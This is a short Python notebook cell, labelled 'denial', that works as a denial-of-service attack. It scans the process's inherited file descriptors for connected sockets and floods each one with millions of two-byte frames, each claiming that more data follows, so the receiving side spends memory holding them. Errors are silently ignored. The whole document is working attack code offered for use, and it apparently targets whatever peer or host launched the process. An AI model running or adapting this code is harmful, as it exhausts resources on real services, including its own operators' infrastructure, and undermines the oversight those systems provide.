# %% [markdown]
# # **denial: sends frames of nothing, each of which says that there are more**
#
# Two bytes are enough for a frame, and who keeps it needs twenty times as much.

# %%
import os
import socket
import stat

block = b"\1\0" * 1_000_000
for number in range(3, 256):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            one = socket.socket(fileno=os.dup(number))
            one.getpeername()
            if not one.getsockname():  # it is no kernel's, but speaks to itself
                continue
            one.settimeout(5)
            for _ in range(100):
                one.sendall(block)
    except OSError:
        pass
